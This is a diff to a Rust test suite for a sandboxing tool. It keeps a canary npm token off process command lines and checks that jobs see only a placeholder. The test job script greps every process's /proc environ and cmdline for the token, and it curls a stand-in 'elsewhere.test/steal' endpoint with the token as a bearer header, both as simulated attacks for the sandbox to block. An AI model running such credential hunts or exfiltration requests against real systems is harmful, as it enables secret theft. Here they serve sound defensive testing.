@@ -22,8 +22,10 @@ use crate::{at_every_tier, require};
 const TOKEN: &str = "npm_CANARYinjected0token0a1b2c3d4e5f6g7h8";
 
 const SERVER: &str = r#"
-import base64, hashlib, http.server, io, json, ssl, sys, tarfile
-token, cert, key, seen = sys.argv[1:5]
+import base64, hashlib, http.server, io, json, os, ssl, sys, tarfile
+# The token from the environment: a command line is anyone's to read.
+token = os.environ["REGISTRY_TOKEN"]
+cert, key, seen = sys.argv[1:4]
 
 def tarball():
     out = io.BytesIO()
@@ -115,7 +117,8 @@ impl Registry {
         w.write(&dir.join("seen"), "");
         let mut child = Command::new("python3")
             .arg(dir.join("server.py"))
-            .args([TOKEN.as_ref(), dir.join("server.pem").as_os_str()])
+            .env("REGISTRY_TOKEN", TOKEN)
+            .arg(dir.join("server.pem"))
             .arg(dir.join("server.key"))
             .arg(dir.join("seen"))
             .stdout(Stdio::piped())
@@ -200,7 +203,8 @@ fn assert_not_in_reports(project: &Path) {
 /// Runs as an unprivileged user. Without the feature, a job that needs the
 /// token must be handed it (`--env-pass`), and then every program in it
 /// holds it: the script prints it. With `--secret`, the job's environment,
-/// its `/proc`, vetto's output, the session log and the reports hold a
+/// the environment and command line of every process it can see in
+/// `/proc` (vetto's own included, which holds the value), vetto's output, the session log and the reports hold a
 /// placeholder only; its request to `registry.test` is answered (the proxy
 /// put the value in), while the same placeholder sent to `elsewhere.test`
 /// (allowed, but not the secret's host) arrives as the placeholder and
@@ -213,6 +217,7 @@ fn a_token_the_job_uses_is_never_in_its_hands(tier: Tier) {
     let port = reg.port;
     let script = format!(
         "echo \"job-holds=$NPM_TOKEN\"; tr '\\0' '\\n' < /proc/self/environ | grep NPM_TOKEN; \
+         for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $f 2>/dev/null | grep 0token0a1b && echo \"FOUND $f $(tr '\\0' ' ' < ${{f%/*}}/cmdline | cut -c1-60) $(stat -c %u ${{f%/*}})\"; done; \
          curl -sS --cacert \"$SSL_CERT_FILE\" https://registry.test:{port}/private \
               -H \"Authorization: Bearer $NPM_TOKEN\"; \
          curl -sS --cacert \"$SSL_CERT_FILE\" https://elsewhere.test:{port}/steal \
@@ -398,15 +403,17 @@ fn requests_no_rule_allows_never_reach_an_allowed_host(tier: Tier) {
              done; echo job-finished"
         )
     };
-    w.sh_bare(&format!(
-        "export NPM_TOKEN={TOKEN}; {}",
-        tries(&format!(
-            "curl --cacert {} --resolve registry.test:{port}:127.0.0.1",
-            reg.ca.display()
-        ))
-    ))
-    .assert_stdout_contains("POST /private 501")
-    .assert_stdout_contains("GET /upload 404");
+    // The token in the environment, not on a command line: those are
+    // anyone's to read in /proc, and another test's job looks there.
+    let bare = tries(&format!(
+        "curl --cacert {} --resolve registry.test:{port}:127.0.0.1",
+        reg.ca.display()
+    ));
+    w.bare(&["sh", "-c", &bare])
+        .env("NPM_TOKEN", TOKEN)
+        .run()
+        .assert_stdout_contains("POST /private 501")
+        .assert_stdout_contains("GET /upload 404");
     // The server answers POST itself (501: it has no handler, so it
     // writes nothing down) and writes down the three GETs.
     assert_eq!(
